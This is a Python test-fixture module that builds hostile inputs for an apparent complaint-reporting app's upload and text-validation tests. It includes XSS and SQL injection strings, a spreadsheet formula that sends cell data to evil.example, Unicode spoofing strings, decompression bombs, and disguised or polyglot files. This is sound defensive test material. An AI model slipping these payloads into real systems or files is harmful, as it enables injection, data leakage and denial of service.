"""Hostile inputs: text that tries to become markup, SQL, a spreadsheet formula or a spoofed display,
and files that lie about what they are. Each builder returns bytes small enough to keep tests fast."""

import io
import struct
import zipfile
import zlib

from PIL import Image

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SQL = "Jalan'); DROP TABLE complaints_report; -- ' OR '1'='1"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"klik")'
RTL = "Jalan rusak \u202egnp.exe\u202c di pasar"  # RIGHT-TO-LEFT OVERRIDE ... POP DIRECTIONAL FORMATTING
CONTROL = "Jalan\x07 rusak\x1b[31m parah\x7f"
NUL = "Jalan\x00rusak"
EMOJI = "Jalan rusak 😡🚧🇮🇩 parah sekali 👍🏽"
CYRILLIC = "Jаlаn rusаk"  # Cyrillic а (U+0430) in place of Latin a
LONG_WORD = "Sangat" + "a" * 4000 + "panjang"

#: Text that must be stored and then shown exactly as typed (escaped in HTML).
VERBATIM = {"script": SCRIPT, "sql": SQL, "formula": FORMULA, "emoji": EMOJI, "cyrillic": CYRILLIC}
#: Characters that are dropped before storing: they only spoof what a reader sees.
STRIPPED = {"rtl": (RTL, "Jalan rusak gnp.exe di pasar"), "control": (CONTROL, "Jalan rusak[31m parah")}


def png(size=(40, 30), color=(20, 120, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_with_gps() -> bytes:
    """A JPEG whose EXIF holds a GPS position (the reporter's home) and a camera model."""
    image = Image.new("RGB", (64, 48), (200, 180, 20))
    exif = Image.Exif()
    exif[0x0110] = "Kamera Rahasia"  # Model
    gps = {1: "S", 2: (3.0, 12.0, 30.0), 3: "E", 4: (104.0, 39.0, 10.0)}
    exif[0x8825] = gps  # GPSInfo
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def png_bomb(width=30000, height=30000) -> bytes:
    """A tiny PNG whose header declares width x height pixels (900 megapixels by default)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + 3 * 16), 9)  # only a sliver of real data
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def exe() -> bytes:
    header = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    return header + b"\x00" * 200 + b"This program cannot be run in DOS mode"


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'


def gif_js_polyglot() -> bytes:
    """Valid as a GIF header and as JavaScript (GIF89a=... /*)."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(document.domain);/*" + b"\x00" * 20 + b"*/"


def small_pdf() -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Surat uji")
    page.save()
    return buffer.getvalue()


def pdf_zip_polyglot() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
    return small_pdf() + archive.getvalue()


def pdf_bomb_ish() -> bytes:
    """A PDF whose one content stream inflates to 50 MB of zeros (a few KB on disk)."""
    inflated = zlib.compress(b"0" * (50 * 1024 * 1024), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(inflated) + inflated + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def truncated_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (300, 200), (10, 200, 10)).save(buffer, "JPEG")
    return buffer.getvalue()[:400]


#: name the browser sends -> (bytes, why it must be refused)
BAD_FILES = {
    "exe_as_jpg": ("foto.jpg", exe),
    "html_as_pdf": ("surat.pdf", html),
    "svg": ("gambar.svg", svg),
    "svg_as_png": ("gambar.png", svg),
    "gif_js_polyglot": ("animasi.gif", gif_js_polyglot),
    "pdf_zip_polyglot": ("surat.pdf", pdf_zip_polyglot),
    "truncated_jpeg": ("foto.jpg", truncated_jpeg),
    "png_bomb": ("foto.png", png_bomb),
}
